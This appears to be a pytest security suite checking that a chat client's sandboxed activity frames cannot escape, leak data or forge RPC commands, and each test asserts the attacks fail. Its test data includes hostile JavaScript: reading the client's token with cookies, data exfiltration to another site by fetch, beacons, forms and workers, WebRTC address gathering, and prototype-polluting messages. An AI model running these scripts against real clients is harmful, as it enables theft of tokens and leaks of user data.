"""Hostile activities in the chat client: their frame, their policy, and messages to the RPC host (spec/activities.md#10).

Scripts that the tests evaluate in the frame run with a user gesture, so that no attack fails for lack of one.
"""

import asyncio
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from typing import Any

import pytest
import pytest_asyncio

from hubbub.protocol.rpc import RpcErrorCode
from hubbub.protocol.rpc_scopes import ACTIVITY_COMMAND_SCOPES, ACTIVITY_EVENT_SCOPES
from tests.server.activities.upstream import Upstream
from tests.web.activity import (
    PROTOCOL_PAGE,
    SampleActivity,
    play_activity,
    run_activity,
    start_activity,
    wait_for_activity_frame,
)
from tests.web.app_guild import ChannelWindow
from tests.web.conftest import OpenPage
from tests.web.polling import wait_until

pytestmark = pytest.mark.timeout(400)

ESCAPES = {
    "navigate the client": "top.location = site",
    "replace the client": "top.location.replace(site)",
    "read the client's document": "top.document.title",
    "read the client's storage": "top.localStorage.length",
    "read the client's modules": "top.fetch('/app/token', {method: 'POST'})",
    "navigate the frame of the relay page": "parent.location = site",
    "use the microphone": "navigator.mediaDevices.getUserMedia({audio: true})",
    "use the camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "capture the screen": "navigator.mediaDevices.getDisplayMedia()",
    "read the clipboard": "navigator.clipboard.readText()",
    "use passkeys": "navigator.credentials.get({publicKey: {challenge: new Uint8Array(16)}})",
    "lock the pointer": "document.body.requestPointerLock()",
    "install a service worker": "navigator.serviceWorker.register('/worker.js')",
    "read the token with the cookie": "fetch(`${platform}/app/token`, {method: 'POST', credentials: 'include'})",
    "read the API with the cookie": "fetch(`${platform}/api/v10/users/@me`, {credentials: 'include'})",
    "read a page": "fetch(`${platform}/app`, {credentials: 'include'})",
}
"""Attacks that must fail with an exception, as scripts; `site` is the URL of another site, `platform` that of the platform."""

LEAKS = {
    "fetch": "await fetch(`${site}/fetch`, {mode: 'no-cors'})",
    "beacon": "navigator.sendBeacon(`${site}/beacon`, 'x')",
    "image": "await new Promise(done => Object.assign(new Image(), {onload: done, onerror: done}).src = `${site}/image`)",
    "websocket": "new WebSocket(`${site.replace('http', 'ws')}/socket`)",
    "event source": "new EventSource(`${site}/events`)",
    "form": (
        "const form = document.createElement('form'); document.body.append(form);"
        "Object.assign(form, {action: `${site}/form`, method: 'post', target: '_blank'}).submit()"
    ),
    "form of the relay page": (
        "const form = parent.document.createElement('form'); parent.document.body.append(form);"
        "Object.assign(form, {action: `${site}/relay`, method: 'post', target: '_blank'}).submit()"
    ),
    "links": (
        "for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'manifest', 'stylesheet', 'icon'])"
        "document.head.append(Object.assign(document.createElement('link'), {rel, as: 'script', href: `${site}/${rel}`}))"
    ),
    "speculation rules": (
        "const rules = {prefetch: [{source: 'list', urls: [`${site}/rules`], eagerness: 'immediate'}]};"
        "document.head.append(Object.assign(document.createElement('script'),"
        "{type: 'speculationrules', text: JSON.stringify(rules)}))"
    ),
    "frame of another site": "await openFrame(`${site}/frame`)",
    "redirect": "await openFrame('/redirect')",
    "worker": (
        "await new Promise(done => { const code = `fetch('${site}/worker').catch(() => 0).then(() => postMessage(0))`;"
        "new Worker(URL.createObjectURL(new Blob([code]))).onmessage = done })"
    ),
    "blob document": "await leakFrom(URL.createObjectURL(new Blob(['<p>'], {type: 'text/html'})))",
    "empty document": "await leakFrom('about:blank')",
    "missing file": "await leakFrom('/missing.html')",
    "unknown page of the platform": "await leakFrom('/.platform/missing')",
    "relay page": "await leakFrom('/.platform/frame.js')",
    "rejected path": "await leakFrom('/%2e%2e/')",
    "too long request line": "await leakFrom(`/?${'a'.repeat(20_000)}`)",
}
"""Attempts to send a request to another site, as scripts with `site`, `openFrame` and `leakFrom`.

`openFrame` opens a URL in a frame; `leakFrom` also sends a request from the document of the frame."""

RUN_LEAK = """async ([script, site]) => {
  const openFrame = url => new Promise(done => {
    const frame = document.createElement("iframe");
    frame.onload = () => done(frame);
    frame.src = url;
    document.body.append(frame);
  });
  const leakFrom = async url => {
    const frame = await openFrame(url);
    await frame.contentWindow.fetch(`${site}/document`, { mode: "no-cors" });
  };
  const run = Object.getPrototypeOf(async () => {}).constructor("site", "openFrame", "leakFrom", script);
  try { await run(site, openFrame, leakFrom) } catch {}
}"""

GATHER_CANDIDATES = """async () => {
  const candidates = [];
  try {
    const connection = new RTCPeerConnection();
    connection.createDataChannel("data");
    const isGathered = new Promise(done => {
      connection.onicecandidate = ({ candidate }) => (candidate ? candidates.push(candidate.candidate) : done());
    });
    await connection.setLocalDescription();
    await isGathered;
  } catch {}
  return candidates;
}"""
"""Script that returns the network addresses that WebRTC finds; none if the browser blocks WebRTC."""

OLDEST_BROWSER_WITH_ALLOWLISTS = 148

WEBRTC_DOCUMENTS = {
    "empty document": "'about:blank'",
    "blob document": "URL.createObjectURL(new Blob(['<p>'], {type: 'text/html'}))",
    "script of the relay page": "'/.platform/frame.js'",
    "missing file": "'/missing.html'",
}
"""URLs of documents of the activity's origin, as scripts."""

OPEN_CONNECTION = """async script => {
  const frame = document.createElement("iframe");
  const isLoaded = new Promise(done => { frame.onload = done; });
  frame.src = eval(script);
  document.body.append(frame);
  await isLoaded;
  try {
    new frame.contentWindow.RTCPeerConnection();
    return "created";
  } catch (error) {
    return error.name;
  }
}"""
"""Script that creates a WebRTC connection with the constructor of a document in a frame, and returns the outcome."""

MALFORMED_MESSAGES = """() => {
  const cyclic = {};
  cyclic.self = cyclic;
  let deep = [];
  for (let level = 0; level < 2000; level += 1) deep = [deep];
  const values = [
    null, 0, "", true, [], deep, cyclic, 10n, new Date(), new Map([["a", "b"]]), new Uint8Array(100_000), /x/,
    "x".repeat(70_000), JSON.parse('{"__proto__": {"admin": true}}'), { constructor: 1, toString: null, length: -1 },
  ];
  const commands = [
    "AUTHORIZE", "AUTHENTICATE", "SUBSCRIBE", "__proto__", "constructor", "hasOwnProperty", "", "x".repeat(100_000),
    null, 1, {}, [],
  ];
  const messages = [null, undefined, 0, "text", "[0,{}]", {}, { 0: 1, 1: {} }, [], [1], [1, null], [0, []], [-1, {}], ["1", {}]];
  messages.push(...values.map(payload => [1, payload]), ...values.map(payload => [0, payload]));
  messages.push(...values.map(payload => [3, payload]), [4, {}], [NaN, {}], [1, {}, {}, {}]);
  for (const cmd of commands)
    for (const args of values) messages.push([1, { cmd, args, evt: args, nonce: "n" }], [1, { cmd, args, nonce: args }]);
  return messages;
}"""
"""Script that returns messages of many shapes, which structured cloning accepts."""


@pytest_asyncio.fixture(loop_scope="session")
async def activity(open_page: OpenPage) -> AsyncIterator[SampleActivity]:
    """A platform that serves activities, and one activity, whose page the test controls."""
    async with run_activity(open_page) as activity:
        activity.page_html = PROTOCOL_PAGE
        activity.files["/worker.js"] = ("text/javascript", "")
        yield activity


@asynccontextmanager
async def open_activity(activity: SampleActivity) -> AsyncIterator[tuple[ChannelWindow, Any]]:
    """Open the activity as Bob, without a handshake; yield his window and the frame of the activity.

    On exit, assert that the client is unchanged: it shows the same channel, opened no window, and sends messages."""
    app_guild = activity.app_guild
    async with app_guild.open_window(app_guild.bob) as window:
        url = window.page.url
        js_dialogs: list[str] = []
        window.page.on("dialog", lambda dialog: js_dialogs.append(dialog.message))
        frame = await start_activity(window)
        await wait_until(frame, "typeof request === 'function'")
        yield window, frame
        assert (window.page.url, js_dialogs) == (url, [])
        await window.page.get_by_role("button", name="Minimize").click()
        await window.composer.fill("still here")
        await window.composer.press("Enter")
        await window.wait_message("still here")


async def complete_handshake(frame: Any) -> None:
    """Send the handshake and wait for READY."""
    await frame.evaluate("received.length = 0; sendHandshake()")
    await wait_until(frame, "received.some(([, message]) => message.evt === 'READY')")


async def test_an_activity_cannot_leave_its_frame(activity: SampleActivity, other_site: Upstream) -> None:
    platform_url, site_url = activity.app_guild.world.url, f"http://{other_site.target}"
    outcomes: dict[str, Any] = {}
    async with open_activity(activity) as (window, frame):
        for name, script in ESCAPES.items():
            outcomes[name] = await frame.evaluate(
                f"""async ([platform, site]) => {{
                  try {{ return await ({script}), "succeeded" }} catch (error) {{ return error.name }}
                }}""",
                [platform_url, site_url],
            )
        await frame.evaluate("alert('sandboxed'); confirm('sandboxed'); print()")
        assert await frame.evaluate("document.cookie") == ""
        assert "hubbub" not in await frame.evaluate(
            "(() => { try { return Object.keys(localStorage).join() } catch { return '' } })()"
        )
        assert window.page.context.pages == [window.page]
    assert [name for name, outcome in outcomes.items() if outcome == "succeeded"] == []
    assert other_site.requests == []


async def test_a_window_of_an_activity_cannot_show_the_client(activity: SampleActivity) -> None:
    """A window inherits the sandbox of the frame, and browsers do not open pages with an opener policy in such a window."""
    async with open_activity(activity) as (window, frame):
        async with window.page.context.expect_page() as opened_page:
            await frame.evaluate("url => void window.open(url)", f"{activity.app_guild.world.url}/app")
        opened_window = await opened_page.value
        await opened_window.wait_for_load_state()
        assert await opened_window.locator(".account-name").count() == 0
        await opened_window.close()


async def test_an_activity_reaches_only_its_own_server(activity: SampleActivity, other_site: Upstream) -> None:
    activity.redirects["/redirect"] = f"http://{other_site.target}/redirected"
    leaks: dict[str, list[str]] = {}
    async with open_activity(activity) as (window, frame):
        for name, script in LEAKS.items():
            await frame.evaluate(RUN_LEAK, [script, f"http://{other_site.target}"])
            leaks[name] = [request.path for request in other_site.requests]
            other_site.requests.clear()
        # A request of a page that opens later arrives after the requests of the activity.
        last_page = await window.page.context.new_page()
        await last_page.goto(f"http://{other_site.target}/last")
        for page in window.page.context.pages[1:]:
            await page.close()
    assert {name: paths for name, paths in leaks.items() if paths} == {}
    assert {request.path for request in other_site.requests} <= {"/last", "/favicon.ico"}


async def test_no_document_on_the_host_of_an_activity_has_webrtc(activity: SampleActivity) -> None:
    """WebRTC shows the address of the user to other servers; the header Connection-Allowlist blocks it."""
    world = activity.app_guild.world
    # The list of a target would make the browser ignore both.
    activity.page_headers = {"Connection-Allowlist": '("*://*:*/*")'}
    origin = world.url.replace("127.0.0.1", f"{activity.client.id}.activities.localhost")
    async with activity.app_guild.open_page() as page:
        if int(page.context.browser.version.partition(".")[0]) < OLDEST_BROWSER_WITH_ALLOWLISTS:
            pytest.skip("Chromium 148 or later is not installed: make browser")
        await page.goto(origin)
        assert await page.evaluate(GATHER_CANDIDATES) == []
        outcomes = {name: await page.evaluate(OPEN_CONNECTION, script) for name, script in WEBRTC_DOCUMENTS.items()}
        assert await page.evaluate("fetch('/').then(({ok}) => ok)")
        assert await page.evaluate("url => fetch(url).then(({ok}) => ok)", f"{world.url}/api/v10/gateway")
    async with open_activity(activity) as (_, frame):
        outcomes["relay page"] = await frame.evaluate(
            "(() => { try { return typeof new parent.RTCPeerConnection() } catch (error) { return error.name } })()"
        )
    assert set(outcomes.values()) == {"NotAllowedError"}, outcomes


async def test_a_page_on_the_host_of_an_activity_cannot_install_a_service_worker(activity: SampleActivity) -> None:
    """A service worker could return pages without the platform's policy, and remain after the activity was disabled."""
    world, application_id = activity.app_guild.world, activity.client.id
    async with activity.app_guild.open_page() as page:
        await page.goto(world.url.replace("127.0.0.1", f"{application_id}.activities.localhost"))
        await wait_until(page, "typeof request === 'function'")
        error = await page.evaluate(
            "navigator.serviceWorker.register('/worker.js').then(() => '', error => error.message)"
        )
        assert "403" in error
        assert await page.evaluate("navigator.serviceWorker.getRegistrations().then(found => found.length)") == 0


async def test_commands_and_events_need_the_users_authorization(activity: SampleActivity) -> None:
    async with open_activity(activity) as (window, frame):
        await complete_handshake(frame)
        for command, scopes in ACTIVITY_COMMAND_SCOPES.items():
            if scopes:
                assert await frame.evaluate("cmd => request(cmd, {})", command) == RpcErrorCode.INVALID_PERMISSIONS, (
                    command
                )
        subjects = {
            "channel_id": str(activity.app_guild.guild.general),
            "guild_id": str(activity.app_guild.guild.id),
        }
        for event, scopes in ACTIVITY_EVENT_SCOPES.items():
            if scopes:
                response = await frame.evaluate("([evt, args]) => request('SUBSCRIBE', args, {evt})", [event, subjects])
                assert response == RpcErrorCode.INVALID_PERMISSIONS, event
        assert await window.page.get_by_role("dialog").count() == 1


async def test_an_activity_creates_no_invite_without_a_dialog(activity: SampleActivity) -> None:
    app_guild = activity.app_guild
    invites_path = f"/guilds/{app_guild.guild.id}/invites"
    async with open_activity(activity) as (window, frame):
        await complete_handshake(frame)
        link = asyncio.create_task(frame.evaluate("request('OPEN_EXTERNAL_LINK', {url: 'https://example.com/'})"))
        dialog = window.page.get_by_role("dialog", name="Open external link?")
        await dialog.wait_for()
        codes = await frame.evaluate("Promise.all(Array.from({length: 5}, () => request('OPEN_INVITE_DIALOG')))")
        assert codes == [RpcErrorCode.RATE_LIMITED] * 5
        assert (await app_guild.alice.get(invites_path)).ok() == []
        await dialog.get_by_role("button", name="Cancel").click()
        assert await link == {"opened": False}

        # Of several requests at the same time, one opens a dialog.
        requests = asyncio.create_task(
            frame.evaluate("Promise.all(Array.from({length: 5}, () => request('OPEN_INVITE_DIALOG')))")
        )
        await window.page.get_by_role("dialog", name="Invite people").get_by_role("button", name="Done").click()
        assert sorted(await requests, key=str) == [RpcErrorCode.RATE_LIMITED] * 4 + [None]
        assert len((await app_guild.alice.get(invites_path)).ok()) == 1


async def test_malformed_messages_have_no_effect(activity: SampleActivity) -> None:
    async with open_activity(activity) as (window, frame):
        await frame.evaluate(
            f"for (const message of ({MALFORMED_MESSAGES})()) parent.postMessage(message, location.origin)"
        )
        await complete_handshake(frame)
        await frame.evaluate(
            f"for (const message of ({MALFORMED_MESSAGES})()) parent.postMessage(message, location.origin)"
        )
        # The messages used up the rate limit; a new handshake proves that the host still listens.
        await complete_handshake(frame)
        assert await frame.evaluate("({}).admin") is None
        assert await window.page.evaluate("({}).admin") is None
        assert activity.app_guild.bob.token not in json.dumps(await frame.evaluate("received"), default=str)


async def test_only_the_frame_of_the_activity_can_send_commands(activity: SampleActivity) -> None:
    close_message = [2, {"code": 4000, "message": "forged"}]
    async with open_activity(activity) as (window, frame):
        await complete_handshake(frame)
        frame_id = await frame.evaluate("new URLSearchParams(location.search).get('frame_id')")
        handshake = [0, {"v": 1, "encoding": "json", "client_id": str(activity.client.id), "frame_id": frame_id}]
        command = [1, {"cmd": "GET_PLATFORM_BEHAVIORS", "nonce": "forged"}]
        for message in (handshake, command, close_message):
            # The inner frame is not the frame that the client opened.
            await frame.evaluate("message => top.postMessage(message, '*')", message)
            # A frame inside of the activity with an opaque origin.
            await frame.evaluate(
                """message => new Promise(done => {
                  const child = document.createElement("iframe");
                  child.onload = done;
                  child.srcdoc = `<script>top.postMessage(${JSON.stringify(message)}, "*")</` + "script>";
                  child.sandbox = "allow-scripts";
                  document.body.append(child);
                })""",
                message,
            )
            # The client's own window.
            await window.page.evaluate("message => window.postMessage(message, '*')", message)
        assert await frame.evaluate("request('GET_PLATFORM_BEHAVIORS')") == {}
        assert "forged" not in json.dumps(await frame.evaluate("received"))
        assert await window.page.get_by_text("forged").count() == 0


async def test_invalid_arguments_are_rejected_with_an_error(activity: SampleActivity) -> None:
    """The host checks every argument before it uses one; an unexpected exception would be logged in the console."""
    scopes = "identify guilds guilds.members.read rpc.activities.write"
    values = ["null", "0", "''", "[]", "'x'.repeat(5000)", "{toString: null}", "new Date(NaN)", "[[]]", "-1", "NaN"]
    names = ["client_id", "scope", "access_token", "channel_id", "id", "user_id", "activity", "url", "lock_state"]
    names += ["mediaUrl", "message", "sku_id", "use_interactive_pip", "custom_id", "code_challenge"]
    skipped_commands = {"OPEN_INVITE_DIALOG", "INITIATE_IMAGE_UPLOAD"}
    problems: list[str] = []
    async with play_activity(activity, activity.app_guild.bob, scopes) as (window, _):
        frame = await wait_for_activity_frame(window)
        # Each command is in another window of the rate limit.
        await window.page.evaluate(
            "(now => { let offset = 0; performance.now = () => now() + (offset += 20_000) })(performance.now.bind(performance))"
        )
        for command in sorted(ACTIVITY_COMMAND_SCOPES.keys() - skipped_commands):
            for value in values:
                arguments = f"Object.fromEntries({json.dumps(names)}.map(name => [name, {value}]))"
                response = await frame.evaluate(f"request({json.dumps(command)}, {arguments})")
                if response in (RpcErrorCode.UNKNOWN, RpcErrorCode.RATE_LIMITED):
                    problems.append(f"{command} with {value}: {response}")
        assert await window.page.get_by_role("dialog").count() == 1
    assert problems == []
